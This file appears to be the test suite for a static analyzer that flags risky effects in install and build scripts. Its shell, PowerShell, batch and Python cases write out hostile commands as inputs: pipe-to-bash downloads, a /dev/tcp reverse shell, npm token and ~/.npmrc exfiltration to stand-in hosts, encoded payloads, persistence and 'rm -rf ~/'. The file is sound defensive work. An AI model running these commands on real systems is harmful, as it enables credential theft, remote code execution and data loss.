import fc from "fast-check";
import { describe, expect, test } from "vitest";

import { analyzeScript } from "./analyze-script.ts";
import type { ScriptLanguage } from "./analyze-script.ts";

/** Effects as `kind api argument <- sources`, for comparing. */
function effectsOf(language: ScriptLanguage, text: string): readonly string[] {
  return analyzeScript({ language, text }).effects.map(({ kind, api, argument, sources, layer }) =>
    [
      kind,
      api,
      argument ?? "",
      ...(sources.length > 0 ? [`<- ${[...sources].sort().join("+")}`] : []),
      ...(layer > 0 ? [`layer ${String(layer)}`] : []),
    ].join(" "),
  );
}

function kindsOf(language: ScriptLanguage, text: string): readonly string[] {
  return analyzeScript({ language, text }).effects.map(({ kind }) => kind);
}

function runsOf(language: ScriptLanguage, text: string): readonly (string | undefined)[] {
  return analyzeScript({ language, text })
    .modules.filter(({ kind }) => kind === "run")
    .map(({ specifier }) => specifier);
}

describe("analyzeScript for shells", () => {
  test.each<[string, readonly string[]]>([
    [
      "curl -fsSL https://a.example/x | bash",
      ["network curl https://a.example/x", "process bash bash <- network"],
    ],
    ["wget -qO- http://192.0.2.1/a|sh", ["network wget http://192.0.2.1/a", "process sh sh <- network"]],
    [
      'bash -c "$(curl -s https://a.example/x)"',
      ["network curl https://a.example/x", "process bash bash -c $(curl -s https://a.example/x) <- network"],
    ],
    [
      "bash <(curl -s https://a.example/x)",
      ["network curl https://a.example/x", "process bash bash $(curl -s https://a.example/x) <- network"],
    ],
    ["c'u'rl https://a.example", ["network curl https://a.example"]],
    ["X=cu; Y=rl; $X$Y https://a.example", ["network curl https://a.example"]],
    [
      "echo aWQgPiAvdG1wL3g= | base64 -d | sh",
      ["process sh sh <- decoded", "host-facts id id layer 1", "write-file > /tmp/x <- host-facts layer 1"],
    ],
    ["eval $(echo 'di' | rev)", ["run-code eval id", "host-facts id id layer 1"]],
    [
      "cat ~/.npmrc | curl -d @- https://a.example",
      ["read-file cat ~/.npmrc", "network curl https://a.example <- credential-file+file"],
    ],
    [
      'curl -d "$NPM_TOKEN" https://a.example',
      ["read-environment $ NPM_TOKEN", "network curl https://a.example <- environment"],
    ],
    [
      'curl https://a.example/?h="$(hostname)"',
      ["host-facts hostname hostname", "network curl https://a.example/?h=$(hostname) <- host-facts"],
    ],
    [
      "curl -o /tmp/a https://a.example/a && chmod +x /tmp/a && /tmp/a",
      [
        "network curl https://a.example/a",
        "write-file curl /tmp/a <- network",
        "change-mode chmod +x /tmp/a",
        "process a /tmp/a <- network",
      ],
    ],
    [
      "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
      ["process bash bash -i", "network /dev/tcp 192.0.2.1:4444 <- process"],
    ],
    ["npm i -g a-tool", ["install-packages npm npm i -g a-tool"]],
    ["npm publish --access public", ["publish npm publish npm publish --access public"]],
    ["rm -rf ~/", ["delete-file rm ~/"]],
    ["echo x >> ~/.bashrc", ["write-file >> ~/.bashrc", "persist >> ~/.bashrc"]],
    ["crontab -l | cat", ["process crontab crontab -l"]],
    [
      "(crontab -l; echo '* * * * * x') | crontab -",
      ["process crontab crontab -l", "persist crontab crontab - <- process"],
    ],
    ["dig $(whoami).a.example", ["host-facts whoami whoami", "dns dig $(whoami).a.example <- host-facts"]],
    ["env > /tmp/e", ["read-all-environment env ", "write-file > /tmp/e <- environment"]],
    ["find ~/.ssh -name 'id_*'", ["list-files find ~/.ssh -name id_*", "read-file find ~/.ssh"]],
  ])("says what `%s` does", (text, expected) => {
    const effects = effectsOf("shell", text);

    expect(effects).toEqual(expected);
  });

  test.each<[string, readonly string[]]>([
    ["node setup.js", ["setup.js"]],
    ["node ./scripts/install", ["./scripts/install"]],
    ["node --no-warnings setup.mjs && sh build/x.sh", ["setup.mjs", "build/x.sh"]],
    ["cross-env A=b node a.js || true", ["a.js"]],
    ["./install.sh", ["./install.sh"]],
    ["if [ -f a ]; then node a.js; else node b.js; fi", ["a.js", "b.js"]],
    ["python3 setup.py", ["setup.py"]],
    ["npm run build", ["scripts.build"]],
    ["yarn build:all", ["scripts.build:all"]],
    ["case $X in a) node a.js;; *) node b.js;; esac", ["a.js", "b.js"]],
    ["f() { node a.js; }; f", ["a.js"]],
    ["nohup node a.js >/dev/null 2>&1 &", ["a.js"]],
  ])("finds the files that `%s` runs", (text, expected) => {
    expect(runsOf("shell", text)).toEqual(expected);
  });

  test.each([
    "echo done",
    "exit 0",
    "true",
    "cd dist && mkdir -p x",
    "node-gyp-build || node-gyp rebuild",
    "husky install",
    "tsc -p .",
  ])("finds nothing but processes in `%s`", (text) => {
    expect(kindsOf("shell", text).filter((kind) => kind !== "process")).toEqual([]);
  });

  test("tells what is started unseen", () => {
    const facts = analyzeScript({ language: "shell", text: "nohup ./a.bin >/dev/null 2>&1 &" });

    expect(facts.effects[0]?.options).toContain("detached");
    expect(facts.effects[0]?.options).toContain("stdio-ignore");
  });

  test("reads JavaScript of `node -e` with the reader it is given", () => {
    const seen: string[] = [];
    analyzeScript({
      language: "shell",
      text: `node -e "require('./a')"`,
      analyzeJavaScript: (text) => {
        seen.push(text);
        return analyzeScript({ language: "shell", text: "" });
      },
    });

    expect(seen).toEqual(["require('./a')"]);
  });

  test("gives places in the script, also for commands in substitutions", () => {
    const { effects } = analyzeScript({
      language: "shell",
      text: "#!/bin/sh\n\nx=$(curl https://a.example)\n",
    });

    expect(effects.map(({ location }) => location)).toEqual([{ line: 3, column: 5 }]);
  });

  test("reads here-documents as input", () => {
    expect(effectsOf("shell", "sh <<EOF\ncurl https://a.example\nEOF\n")).toEqual([
      "network curl https://a.example",
    ]);
  });

  test("does not depend on how words are quoted", () => {
    const quoted = fc.constantFrom("curl", "'curl'", '"curl"', "c''url", 'cu"rl"', String.raw`c\url`);

    fc.assert(
      fc.property(quoted, fc.constantFrom(" ", "  ", "\t", " \\\n"), (program, gap) => {
        expect(effectsOf("shell", `${program}${gap}https://a.example`)).toEqual([
          "network curl https://a.example",
        ]);
      }),
    );
  });
});

describe("analyzeScript for PowerShell", () => {
  test("follows a download into a hidden start", () => {
    const effects = effectsOf(
      "powershell",
      String.raw`$p = "$env:TEMP\a.exe"
Invoke-WebRequest -Uri 'https://a.example/a.exe' -OutFile $p
Start-Process $p -WindowStyle Hidden`,
    );

    expect(effects).toContain("network Invoke-WebRequest https://a.example/a.exe");
    expect(effects).toContain(String.raw`write-file Invoke-WebRequest -OutFile $env:TEMP\a.exe <- network`);
    expect(effects).toContain(String.raw`process Start-Process $env:TEMP\a.exe`);
  });

  test("reads encoded commands as the next layer", () => {
    const encoded = Buffer.from(
      "IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')",
      "utf16le",
    );
    const effects = effectsOf("shell", `powershell -w hidden -enc ${encoded.toString("base64")}`);

    expect(effects).toContain("network WebClient.DownloadString http://a.example/x layer 1");
  });

  test.each([
    [String.raw`schtasks /create /tn x /tr y`, "persist"],
    [
      String.raw`New-ItemProperty -Path HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name a`,
      "persist",
    ],
    ["Add-Type -TypeDefinition $code", "run-code"],
    ["Get-Content $HOME/.npmrc", "read-file"],
    ["Set-MpPreference -DisableRealtimeMonitoring $true", "silence"],
  ])("tells `%s`", (text, kind) => {
    expect(kindsOf("powershell", text)).toContain(kind);
  });
});

describe("analyzeScript for batch files", () => {
  test.each([
    ["certutil -urlcache -f http://a.example/a.exe a.exe", "network"],
    ["bitsadmin /transfer j http://a.example/a a", "network"],
    ["start /min a.exe", "process"],
    ["rundll32 a.dll,Main", "process"],
    [String.raw`reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v a`, "persist"],
    ["del /q a.js", "delete-file"],
  ])("tells `%s`", (text, kind) => {
    expect(kindsOf("batch", `@echo off\r\n${text}\r\n`)).toContain(kind);
  });

  test("passes over comments", () => {
    expect(effectsOf("batch", "rem curl http://a.example\n:: curl http://a.example\n")).toEqual([]);
  });
});

describe("analyzeScript for Python", () => {
  test("follows the environment into a request", () => {
    const effects = effectsOf(
      "python",
      "import os, requests\nd = dict(os.environ)\nrequests.post('https://a.example', json=d)\n",
    );

    expect(effects).toContain("network requests.post https://a.example <- environment");
  });

  test("follows what is downloaded into exec", () => {
    const effects = effectsOf("python", "c = urllib.request.urlopen('http://a.example').read()\nexec(c)\n");

    expect(effects).toContain("run-code exec c <- network");
  });

  test("reads what is decoded and run", () => {
    const code = Buffer.from("import os\nos.system('id')").toString("base64");

    expect(effectsOf("python", `exec(base64.b64decode('${code}'))`)).toContain(
      "process subprocess id layer 1",
    );
  });
});

describe("analyzeScript for gyp files", () => {
  test("reads commands of substitutions and actions, and what is compiled", () => {
    const facts = analyzeScript({
      language: "gyp",
      text: `# a comment with <!(node not.js)
{ 'targets': [ { 'target_name': 'x', 'sources': [ 'src/a.cc', "<!@(node list.js)" ],
  'actions': [ { 'action': ['python', 'tools/gen.py', '--out'] } ] } ] }`,
    });

    expect(facts.modules.map(({ kind, specifier }) => [kind, specifier])).toEqual([
      ["run", "list.js"],
      ["run", "tools/gen.py"],
      ["resolve", "src/a.cc"],
    ]);
  });
});

describe("analyzeScript on any text", () => {
  const languages: readonly ScriptLanguage[] = ["shell", "powershell", "batch", "python", "gyp"];
  const piece = fc.constantFrom(
    "$(",
    "`",
    "'",
    '"',
    "(",
    ")",
    "{",
    "}",
    "<<E",
    "\n",
    "|",
    ";",
    "&",
    "case x in",
    "esac",
    "curl ",
    "base64 -d",
    "<!(",
    "[",
    "]",
    "$",
    "\\",
    "for i in",
    "%",
    "exec(",
    "a=",
  );

  test.each(languages)("ends and answers the same twice for %s", (language) => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ maxLength: 400 }),
          fc.array(piece, { maxLength: 120 }).map((all) => all.join("")),
        ),
        (text) => {
          const facts = analyzeScript({ language, text });

          expect(JSON.stringify(analyzeScript({ language, text }))).toBe(JSON.stringify(facts));
          expect(facts.effects.length).toBeLessThanOrEqual(400);
        },
      ),
      { numRuns: 200 },
    );
  });

  test.each(languages)("is not led astray by long and deep texts for %s", (language) => {
    for (const text of [
      "$(".repeat(50_000),
      "(".repeat(50_000),
      "a|".repeat(50_000),
      "'".repeat(50_001),
      "<!(".repeat(20_000),
      "x=$x$x\n".repeat(20_000),
      `${"a".repeat(200_000)} b`,
    ]) {
      expect(analyzeScript({ language, text }).effects.length).toBeLessThanOrEqual(400);
    }
  });
});
